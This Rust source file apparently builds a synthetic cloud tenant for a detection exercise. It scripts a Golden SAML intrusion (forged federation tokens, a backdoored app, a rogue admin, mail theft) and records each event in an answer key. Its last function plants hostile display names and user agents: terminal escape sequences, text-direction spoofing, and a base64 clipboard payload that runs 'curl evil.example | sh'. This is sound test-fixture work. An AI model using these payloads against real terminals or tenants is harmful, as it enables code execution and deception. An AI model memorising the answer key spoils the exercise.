//! The attacker's story for each scenario, woven into the background
//! tenant. `assets/scenarios/golden-saml.md` tells it in prose; everything
//! malicious is recorded in the tenant's answer key as it is made.

use base64::Engine;

use super::audit::{AuditSpec, Initiator, RiskSpec, Target, audit, risk};
use super::catalog;
use super::directory::{Credential, CredentialKind, PrincipalType};
use super::generate::{self, ATTACKER_AGENT, ATTACKER_SCRIPT_AGENT, Build, who};
use super::signins::{Auth, Issuer, Kind, Principal, SignIn};
use super::time::{DAY, HOUR, MINUTE, iso};

pub const ATTACKER_IP_PORTAL: &str = "203.0.113.66";
pub const ATTACKER_IP_API: &str = "203.0.113.140";
/// The issuer the attacker configures on the federated domain.
pub const FORGED_ISSUER: &str = "http://sts.contoso-auth.com/adfs/services/trust";
/// The existing app with Mail.Read that the attacker adds a secret to.
pub const BACKDOORED_APP: &str = "Contoso HR Connector";
/// The multi-tenant app the attacker grants tenant-wide consent to.
pub const CONSENTED_APP: &str = "Mail Archiver Pro";
pub const ROGUE_ADMIN: &str = "svc-adsync-backup";

const AZURE_PORTAL: &str = "c44b4083-3bb0-49c1-b47d-974e53cbdf3c";
const GRAPH_CLI: &str = "14d82eec-204b-4c2f-b7e8-296a70dab67e";
const OUTLOOK_WEB: &str = "9199bf20-a13f-4107-85dc-02114787ef48";

/// Base64 DER of a self-signed X.509 certificate for `subject`, valid
/// from `from_ms` for `days`. The key and signature are random bytes: the
/// certificate reads like a real one (subject, issuer, validity,
/// thumbprint) but signs nothing.
pub fn certificate(rng: &mut fastrand::Rng, subject: &str, from_ms: i64, days: i64) -> String {
    use std::str::FromStr;
    use std::time::Duration;
    use x509_cert::der::asn1::BitString;
    use x509_cert::der::{Encode, oid::ObjectIdentifier};
    use x509_cert::spki::{AlgorithmIdentifierOwned, SubjectPublicKeyInfoOwned};
    let name = x509_cert::name::Name::from_str(subject).expect("subjects here are valid names");
    let time = |ms: i64| {
        let at = std::time::UNIX_EPOCH + Duration::from_millis(ms.max(0) as u64);
        x509_cert::time::Time::try_from(at).expect("times here are in range")
    };
    let sha256_rsa = AlgorithmIdentifierOwned {
        oid: ObjectIdentifier::new_unwrap("1.2.840.113549.1.1.11"),
        parameters: None,
    };
    let random =
        |rng: &mut fastrand::Rng, n: usize| -> Vec<u8> { (0..n).map(|_| rng.u8(..)).collect() };
    let mut serial = random(rng, 16);
    serial[0] &= 0x7f;
    serial[0] |= 0x01;
    let tbs = x509_cert::TbsCertificate {
        version: x509_cert::Version::V3,
        serial_number: x509_cert::serial_number::SerialNumber::new(&serial)
            .expect("16 bytes make a serial number"),
        signature: sha256_rsa.clone(),
        issuer: name.clone(),
        validity: x509_cert::time::Validity {
            not_before: time(from_ms),
            not_after: time(from_ms + days * DAY),
        },
        subject: name,
        subject_public_key_info: SubjectPublicKeyInfoOwned {
            algorithm: AlgorithmIdentifierOwned {
                oid: ObjectIdentifier::new_unwrap("1.2.840.113549.1.1.1"),
                parameters: None,
            },
            subject_public_key: BitString::from_bytes(&random(rng, 270))
                .expect("bytes make a bit string"),
        },
        issuer_unique_id: None,
        subject_unique_id: None,
        extensions: None,
    };
    let cert = x509_cert::Certificate {
        tbs_certificate: tbs,
        signature_algorithm: sha256_rsa,
        signature: BitString::from_bytes(&random(rng, 256)).expect("bytes make a bit string"),
    };
    let der = cert.to_der().expect("a certificate encodes");
    base64::engine::general_purpose::STANDARD.encode(der)
}

/// Pushes one user sign-in of the story and records it as malicious.
#[allow(clippy::too_many_arguments)]
fn user_signin(
    b: &mut Build,
    user: usize,
    time_ms: i64,
    app: &str,
    resource: &str,
    place: u32,
    agent: u16,
    auth: Auth,
    issuer: Issuer,
    error: u32,
    risk: u8,
) {
    let key = b.key();
    let record = SignIn {
        time_ms,
        key,
        principal: user as u32,
        place,
        app: b.app_index(app),
        resource: b.app_index(resource),
        agent,
        credential: 0,
        error,
        kind: Kind::Interactive,
        auth,
        issuer,
        risk,
        client: 0,
    };
    b.tenant
        .answer_key
        .sign_in_ids
        .push(record.id().to_string());
    b.records.push(record);
}

/// A user's own federated sign-in, from their usual place and browser:
/// AD FS issued its token (not part of the attack).
fn genuine_signin(b: &mut Build, user: usize, time_ms: i64, resource: &str, error: u32) {
    let key = b.key();
    let who = &b.tenant.users[user];
    let (place, agent) = (who.usual_places[0], who.usual_agents[0]);
    let record = SignIn {
        time_ms,
        key,
        principal: user as u32,
        place,
        app: b.app_index(OUTLOOK_WEB),
        resource: b.app_index(resource),
        agent,
        credential: 0,
        error,
        kind: Kind::Interactive,
        auth: Auth::MfaInCloud,
        issuer: Issuer::Adfs,
        risk: 0,
        client: 0,
    };
    b.records.push(record);
}

fn add_user(b: &mut Build, display: &str, upn: &str, created_ms: i64) -> usize {
    let id = b.ids.next_guid();
    let place = b.places.attacker_portal;
    b.tenant.users.push(super::directory::User {
        id,
        display: display.into(),
        upn: upn.into(),
        guest: false,
        synced: false,
        enabled: true,
        created_ms,
        last_sign_in_ms: None,
        job_title: String::new(),
        department: "IT".into(),
        methods: vec!["password"],
        refresh_tokens_valid_from_ms: created_ms,
        password_changed_ms: created_ms,
        usual_places: vec![place],
        usual_agents: vec![0],
    });
    // Sign-ins address principals by index: keep users first and in step.
    let index = b.tenant.users.len() - 1;
    b.tables.principals.insert(
        index,
        Principal {
            id,
            display: display.into(),
            upn: upn.into(),
            guest: false,
            app_id: String::new(),
            azure_resource: String::new(),
        },
    );
    b.sp_principal_base += 1;
    for r in &mut b.records {
        if r.principal as usize >= index {
            r.principal += 1;
        }
    }
    index
}

pub fn golden_saml(b: &mut Build) {
    let end = b.end_ms;
    let at = |days: f64| end - (days * DAY as f64) as i64;
    let portal = b.places.attacker_portal;
    let api = b.places.attacker_api;
    let browser = b.agent(ATTACKER_AGENT);
    let script = b.agent(ATTACKER_SCRIPT_AGENT);
    let (graph, exchange, arm) = (
        catalog::GRAPH_APP_ID,
        catalog::EXCHANGE_APP_ID,
        catalog::AZURE_MANAGEMENT_APP_ID,
    );
    let megan = who::MEGAN;

    // Day -9: tokens forged with the stolen AD FS signing key. MFA is
    // "satisfied by claim in the token"; the address and ASN are new.
    let t0 = at(9.0) + 2 * HOUR + 13 * MINUTE;
    user_signin(
        b,
        megan,
        t0,
        AZURE_PORTAL,
        arm,
        portal,
        browser,
        Auth::MfaByClaim,
        Issuer::Adfs,
        0,
        3,
    );
    user_signin(
        b,
        megan,
        t0 + 4 * MINUTE,
        GRAPH_CLI,
        graph,
        portal,
        browser,
        Auth::MfaByClaim,
        Issuer::Adfs,
        0,
        2,
    );
    let request_id = b
        .records
        .last()
        .map(|r| r.id().to_string())
        .unwrap_or_default();
    let key = b.key();
    let detection = risk(RiskSpec {
        time_ms: t0,
        detected_ms: t0 + 5 * HOUR,
        key,
        user: &b.tenant.users[megan],
        event_type: "tokenIssuerAnomaly",
        level: "high",
        ip: ATTACKER_IP_PORTAL,
        city: "Amsterdam",
        country: "NL",
        token_issuer: "ADFederationServices",
        request_id,
    });
    b.tenant
        .answer_key
        .risk_detection_ids
        .push(detection.id.clone());
    b.tenant.risks.push(detection);

    // Day -8.9: a second signing certificate and a foreign issuer on the
    // federated domain, so forged tokens keep working after a key roll.
    let t1 = at(8.9);
    // Made by hand with a ten-year life, as forging tools do.
    let attacker_cert = certificate(
        &mut b.rng,
        "CN=ADFS Signing - sts.contoso-auth.com",
        t1 - DAY,
        3650,
    );
    let fed = &mut b.tenant.federations[0];
    let old_issuer = fed.issuer_uri.clone();
    fed.next_signing_certificate = Some(attacker_cert.clone());
    fed.issuer_uri = FORGED_ISSUER.into();
    let domain_target = Target::other(generate::DOMAIN, generate::DOMAIN, "Domain");
    story_audit(
        b,
        t1,
        "Set federation settings on domain",
        "DirectoryManagement",
        "Update",
        megan,
        vec![domain_target],
        vec![
            (
                "IssuerUri",
                format!("[\"{old_issuer}\"]"),
                format!("[\"{FORGED_ISSUER}\"]"),
            ),
            (
                "NextSigningCertificate",
                "[]".into(),
                format!("[\"{}\"]", &attacker_cert[..48]),
            ),
        ],
    );

    // Day -7: a secret added to an existing app that can read all mail.
    let t2 = at(7.0) + 3 * HOUR;
    let hr_sp = b.sp_index(BACKDOORED_APP).unwrap_or(0);
    let hr_app_id = b.tenant.service_principals[hr_sp].app_id.clone();
    let key_id = b.ids.next_guid();
    let secret = Credential {
        key_id,
        kind: CredentialKind::Password,
        display: "backup".into(),
        start_ms: t2,
        end_ms: t2 + 730 * DAY,
        hint: "x7Q".into(),
    };
    // The application's audit lists its keys before and after; the
    // service principal's only the key added.
    let mut app_keys = (String::from("[]"), String::from("[]"));
    if let Some(app) = b
        .tenant
        .applications
        .iter_mut()
        .find(|a| a.app_id.to_string() == hr_app_id)
    {
        app_keys.0 = super::writes::key_descriptions(&app.credentials);
        app.credentials.push(secret.clone());
        app_keys.1 = super::writes::key_descriptions(&app.credentials);
    }
    let key_description = super::writes::key_descriptions(std::slice::from_ref(&secret));
    b.tenant.service_principals[hr_sp].credentials.push(secret);
    let app_object = b
        .tenant
        .applications
        .iter()
        .find(|a| a.app_id.to_string() == hr_app_id)
        .map(|a| a.id.to_string())
        .unwrap_or_default();
    story_audit(
        b,
        t2,
        "Update application – Certificates and secrets management ",
        "ApplicationManagement",
        "Update",
        megan,
        vec![Target::other(app_object, BACKDOORED_APP, "Application")],
        vec![("KeyDescription", app_keys.0, app_keys.1)],
    );
    let sp_id = b.tenant.service_principals[hr_sp].id.to_string();
    story_audit(
        b,
        t2 + 20 * 1000,
        "Add service principal credentials",
        "ApplicationManagement",
        "Update",
        megan,
        vec![Target::other(sp_id, BACKDOORED_APP, "ServicePrincipal")],
        vec![("KeyDescription", "[]".into(), key_description)],
    );

    // From then on the app signs in from the attacker's infrastructure with
    // the new secret.
    let credential = b.credential(key_id);
    let principal = b.sp_principal_base + hr_sp as u32;
    let app = b.sp_app_index[hr_sp];
    let mut t = t2 + 40 * MINUTE;
    let mut n = 0u32;
    while t < end - 10 * MINUTE {
        let key = b.key();
        let resource = b.app_index(if n.is_multiple_of(3) { exchange } else { graph });
        let record = SignIn {
            time_ms: t,
            key,
            principal,
            place: api,
            app,
            resource,
            agent: script,
            credential,
            error: 0,
            kind: Kind::ServicePrincipal,
            auth: Auth::ClientCredential,
            issuer: Issuer::EntraId,
            risk: 0,
            client: 1,
        };
        b.tenant
            .answer_key
            .sign_in_ids
            .push(record.id().to_string());
        b.records.push(record);
        t += 2 * HOUR + b.rng.i64(0..3 * HOUR);
        n += 1;
    }

    // Day -6: tenant-wide consent to a foreign app for mail and files.
    let t3 = at(6.0) + HOUR;
    let foreign_app = b.ids.next_guid().to_string();
    let foreign_owner = b.ids.next_guid().to_string();
    let consented = generate::service_principal(
        b,
        CONSENTED_APP,
        &foreign_app,
        &foreign_owner,
        PrincipalType::Application,
        t3,
    );
    let graph_sp = b.sp_index("Microsoft Graph").unwrap_or(0);
    let scope = "Mail.Read Files.Read.All offline_access";
    generate::delegated_grant(b, consented, graph_sp, scope, true);
    let consented_id = b.tenant.service_principals[consented].id.to_string();
    story_audit(
        b,
        t3,
        "Consent to application",
        "ApplicationManagement",
        "Assign",
        megan,
        vec![Target::other(
            consented_id.clone(),
            CONSENTED_APP,
            "ServicePrincipal",
        )],
        vec![
            (
                "ConsentContext.IsAdminConsent",
                "".into(),
                "\"True\"".into(),
            ),
            (
                "ConsentAction.Permissions",
                "".into(),
                format!("\"[] => [[Scope: {scope}, ConsentType: AllPrincipals]]\""),
            ),
        ],
    );
    story_audit(
        b,
        t3 + 1000,
        "Add delegated permission grant",
        "ApplicationManagement",
        "Assign",
        megan,
        vec![Target::other(
            consented_id,
            CONSENTED_APP,
            "ServicePrincipal",
        )],
        vec![(
            "DelegatedPermissionGrant.Scope",
            "".into(),
            format!("\"{scope}\""),
        )],
    );

    // Day -5: a new cloud account made Global Administrator.
    let t4 = at(5.0) + 2 * HOUR;
    let upn = format!("{ROGUE_ADMIN}@{}", generate::INITIAL_DOMAIN);
    let rogue = add_user(b, "ADSync Backup Service", &upn, t4);
    let rogue_target = Target::user(&b.tenant.users[rogue]);
    story_audit(
        b,
        t4,
        "Add user",
        "UserManagement",
        "Add",
        megan,
        vec![rogue_target],
        vec![],
    );
    let key = b.key();
    b.tenant
        .role_assignments
        .push(super::directory::RoleAssignment {
            id: format!("{:x}", super::ids::mix(key)),
            principal_id: b.tenant.users[rogue].id,
            role_template_id: catalog::GLOBAL_ADMINISTRATOR,
            created_ms: t4 + 3 * MINUTE,
            // Added straight to the role, not through PIM.
            activated_until_ms: None,
        });
    let mut role_target = Target::user(&b.tenant.users[rogue]);
    role_target.kind = "User";
    story_audit(
        b,
        t4 + 3 * MINUTE,
        "Add member to role",
        "RoleManagement",
        "Assign",
        megan,
        vec![
            role_target,
            Target::other(
                catalog::GLOBAL_ADMINISTRATOR,
                "Global Administrator",
                "Role",
            ),
        ],
        vec![(
            "Role.DisplayName",
            "".into(),
            "\"Global Administrator\"".into(),
        )],
    );
    for i in 0..4 {
        user_signin(
            b,
            rogue,
            t4 + (10 + 90 * i) * MINUTE,
            AZURE_PORTAL,
            arm,
            portal,
            browser,
            Auth::SingleFactor,
            Issuer::EntraId,
            0,
            1,
        );
    }

    // Day -5, an hour later: refresh tokens of the compromised admin made
    // valid from long ago, undoing any earlier revocation.
    let t5 = t4 + HOUR;
    let before = b.tenant.users[megan].refresh_tokens_valid_from_ms;
    let backdated = before - 400 * DAY;
    b.tenant.users[megan].refresh_tokens_valid_from_ms = backdated;
    let target = Target::user(&b.tenant.users[megan]);
    story_audit(
        b,
        t5,
        "Update user",
        "UserManagement",
        "Update",
        rogue,
        vec![target],
        vec![(
            "StsRefreshTokensValidFrom",
            format!("[\"{}\"]", iso(before)),
            format!("[\"{}\"]", iso(backdated)),
        )],
    );

    // Day -2: the AD FS signing key is rolled (the defenders' routine). The
    // stolen key stops working (5000811) until the attacker switches to the
    // certificate they added.
    let t6 = at(2.0);
    // AD FS makes its own certificates: same subject, one year.
    let new_cert = certificate(&mut b.rng, "CN=ADFS Signing - sts.contoso.com", t6, 365);
    b.tenant.federations[0].signing_certificate = new_cert;
    let ip = b.tables.places[b.places.corp[0] as usize].ip.clone();
    let key = b.key();
    let roll = audit(AuditSpec {
        time_ms: t6,
        key,
        activity: "Set federation settings on domain",
        category: "DirectoryManagement",
        service: "Core Directory",
        operation: "Update",
        initiator: Initiator::User {
            user: &b.tenant.users[who::BREAK_GLASS],
            ip: &ip,
        },
        targets: vec![Target::other(generate::DOMAIN, generate::DOMAIN, "Domain")],
        modified: vec![(
            "SigningCertificate",
            "[\"(previous)\"]".into(),
            "[\"(rolled)\"]".into(),
        )],
        failed: false,
    });
    b.push_audit(roll);
    for (i, user) in [megan, who::PATTI, megan].into_iter().enumerate() {
        let when = t6 + (3 + i as i64 * 2) * HOUR;
        user_signin(
            b,
            user,
            when,
            AZURE_PORTAL,
            arm,
            portal,
            browser,
            Auth::MfaByClaim,
            Issuer::Adfs,
            5_000_811,
            0,
        );
    }
    for (i, user) in [megan, who::PATTI, who::LYNNE].into_iter().enumerate() {
        let when = at(1.5) + i as i64 * 35 * MINUTE;
        let app = if i == 0 { AZURE_PORTAL } else { OUTLOOK_WEB };
        let resource = if i == 0 { arm } else { exchange };
        user_signin(
            b,
            user,
            when,
            app,
            resource,
            portal,
            browser,
            Auth::MfaByClaim,
            Issuer::AdfsForged,
            0,
            2,
        );
    }
    // The victims are at work: Patti signs in for real three minutes before
    // her forged token is used, Lynne four minutes after hers (AD FS issues
    // her token, then she leaves Entra ID's MFA prompt unanswered, so the
    // only successful sign-in near the issuance is the forged one). The
    // join must not let a genuine token explain a forged sign-in beside it.
    genuine_signin(b, who::PATTI, at(1.5) + 32 * MINUTE, exchange, 0);
    genuine_signin(b, who::LYNNE, at(1.5) + 74 * MINUTE, exchange, 50074);

    mail_theft(b, &hr_app_id, hr_sp, t2, at(1.5));

    let key_users = [b.tenant.users[megan].upn.clone(), upn];
    b.tenant.answer_key.malicious_users.extend(key_users);
    b.tenant
        .answer_key
        .malicious_apps
        .extend([hr_app_id, foreign_app]);
    b.tenant
        .answer_key
        .malicious_ips
        .extend([ATTACKER_IP_PORTAL.to_owned(), ATTACKER_IP_API.to_owned()]);
}

/// The backdoored app reads the executives' mail, and a forged session as
/// the CFO hides a forwarding rule in her mailbox.
fn mail_theft(b: &mut Build, app_id: &str, app_sp: usize, from_ms: i64, rule_ms: i64) {
    use super::ual::{RecordSpec, record};
    use serde_json::json;
    let tenant_id = b.tenant.id.to_string();
    let sp_id = b.tenant.service_principals[app_sp].id.to_string();
    let mut t = from_ms + HOUR;
    let mut i = 0;
    while t < b.end_ms - HOUR {
        let owner = if i % 2 == 0 { who::LYNNE } else { who::PATTI };
        let owner_upn = b.tenant.users[owner].upn.clone();
        let key = b.key();
        let r = record(RecordSpec {
            time_ms: t,
            key,
            tenant_id: &tenant_id,
            record_type: "exchangeItemAggregated",
            record_type_number: 50,
            workload: "Exchange",
            operation: "MailItemsAccessed",
            user_id: &sp_id,
            upn: &owner_upn,
            user_type: "servicePrincipal",
            ip: ATTACKER_IP_API,
            object_id: "",
            details: json!({
                "MailboxOwnerUPN": owner_upn,
                "AppId": app_id,
                "ClientAppId": app_id,
                "LogonType": 0,
                "ClientInfoString": "Client=REST;Client=RESTSystem;;",
                "OperationProperties": [{ "Name": "MailAccessType", "Value": "Sync" }, { "Name": "IsThrottled", "Value": "False" }],
                "Folders": [{ "Path": "\\Inbox" }, { "Path": "\\Sent Items" }],
                "OperationCount": 40 + b.rng.u32(..200),
            }),
        });
        b.tenant.answer_key.ual_ids.push(r.id.clone());
        b.tenant.ual.push(r);
        t += 5 * HOUR + b.rng.i64(0..3 * HOUR);
        i += 1;
    }
    let patti = &b.tenant.users[who::PATTI];
    let (upn, user_id) = (patti.upn.clone(), patti.id.to_string());
    let key = b.key();
    let rule = record(RecordSpec {
        time_ms: rule_ms + 40 * MINUTE,
        key,
        tenant_id: &tenant_id,
        record_type: "exchangeAdmin",
        record_type_number: 1,
        workload: "Exchange",
        operation: "New-InboxRule",
        user_id: &user_id,
        upn: &upn,
        user_type: "regular",
        ip: ATTACKER_IP_PORTAL,
        object_id: "Patti Fernandez\\.",
        details: json!({
            "ObjectId": "Patti Fernandez\\.",
            "ExternalAccess": false,
            "Parameters": [
                { "Name": "Name", "Value": "." },
                { "Name": "SubjectOrBodyContainsWords", "Value": "invoice;wire transfer;payment" },
                { "Name": "ForwardTo", "Value": "ap-archive@contoso-billing.example" },
                { "Name": "MoveToFolder", "Value": "RSS Subscriptions" },
                { "Name": "MarkAsRead", "Value": "True" },
                { "Name": "StopProcessingRules", "Value": "True" },
            ],
        }),
    });
    b.tenant.answer_key.ual_ids.push(rule.id.clone());
    b.tenant.ual.push(rule);
}

/// An audit the attacker caused, from the attacker's address.
#[allow(clippy::too_many_arguments)]
fn story_audit(
    b: &mut Build,
    time_ms: i64,
    activity: &str,
    category: &str,
    operation: &str,
    actor: usize,
    targets: Vec<Target>,
    modified: Vec<(&str, String, String)>,
) {
    let key = b.key();
    let a = audit(AuditSpec {
        time_ms,
        key,
        activity,
        category,
        service: "Core Directory",
        operation,
        initiator: Initiator::User {
            user: &b.tenant.users[actor],
            ip: ATTACKER_IP_PORTAL,
        },
        targets,
        modified,
        failed: false,
    });
    b.tenant.answer_key.audit_ids.push(a.id.clone());
    b.push_audit(a);
}

/// Names, apps and user agents that attack the terminal that shows them.
pub fn hostile(b: &mut Build) {
    let hostile_names = [
        "Adele\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 Vance",
        "Payroll\x1b[2J\x1b[H Admin",
        "Nestor \u{202e}nimdA labolG\u{202c} Wilke",
        "Zero\u{200b}Width\u{2060}Joiner \u{feff}Tag\u{e0041}",
    ];
    let first = who::FIRST_REGULAR;
    for (i, name) in hostile_names.iter().enumerate() {
        let u = first + i;
        if u < b.tenant.users.len() {
            b.tenant.users[u].display = (*name).into();
            b.tables.principals[u].display = (*name).into();
        }
    }
    let long = first + hostile_names.len();
    if long < b.tenant.users.len() {
        let absurd = "Very ".repeat(400) + "Long Name";
        b.tenant.users[long].display = absurd.clone();
        b.tables.principals[long].display = absurd;
    }
    // Rename an app everywhere it shows: registration, principal, sign-ins.
    let renamed = "Payroll Sync\u{202e}gpj.exe\x1b[31m";
    if let Some(sp) = b.sp_index("Payroll Sync") {
        let app_id = b.tenant.service_principals[sp].app_id.clone();
        b.tenant.service_principals[sp].display = renamed.into();
        if let Some(app) = b
            .tenant
            .applications
            .iter_mut()
            .find(|a| a.app_id.to_string() == app_id)
        {
            app.display = renamed.into();
        }
        for app in b.tables.apps.iter_mut().filter(|a| a.app_id == app_id) {
            app.name = renamed.into();
        }
        let base = b.sp_principal_base as usize;
        b.tables.principals[base + sp].display = renamed.into();
    }
    // The last two usual agents carry escapes and an absurd length.
    let n = b.tables.agents.len();
    b.tables.agents[n - 1] = "Outlook-iOS/2.0\x1b]0;pwned\x07\x1b[1;1H\x1b[2K".into();
    b.tables.agents[n - 2] = format!("Microsoft Office/16.0 {}\u{202e}", "A".repeat(4096));
}
